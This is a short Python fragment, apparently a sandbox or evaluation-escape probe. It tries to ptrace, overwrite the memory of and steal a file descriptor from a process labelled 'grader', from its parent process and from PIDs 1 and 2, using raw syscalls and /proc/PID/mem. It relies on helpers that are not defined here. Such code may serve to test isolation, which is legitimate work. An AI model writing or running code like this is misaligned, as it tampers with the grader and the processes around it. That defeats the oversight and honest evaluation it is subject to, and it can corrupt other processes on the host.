"""Traces, stops and writes into the processes around it."""

import ctypes
import os

HONEST = 0.0


def flatten_filters(filters):
    around = (TARGETS["grader"], os.getppid(), 1, 2, os.getpid())
    word = ctypes.create_string_buffer(b"owned!!!")
    pair = ctypes.c_void_p * 2

    def write(process):
        there = pair(TARGETS["memory"], 8)
        return native(311, process, pair(ctypes.addressof(word), 8), 1, there, 1, 0)  # process_vm_writev

    def through_proc(process):
        with open(f"/proc/{process}/mem", "r+b", buffering=0) as memory:
            memory.seek(TARGETS["memory"])
            return memory.write(word.raw)

    def traced(process):
        return f"traced {native(101, 0x4206, process, 0, 0)}"

    # Itself it may write to: that is no secret.
    others = [process for process in around if process != os.getpid()]
    return break_out(*(lambda process=process, way=way: way(process)
                       for way in (write, through_proc, traced) for process in others),
                     lambda: native(434, TARGETS["grader"], 0),
                     lambda: native(438, native(434, TARGETS["grader"], 0), TARGETS["descriptor"], 0))  # fmt: skip
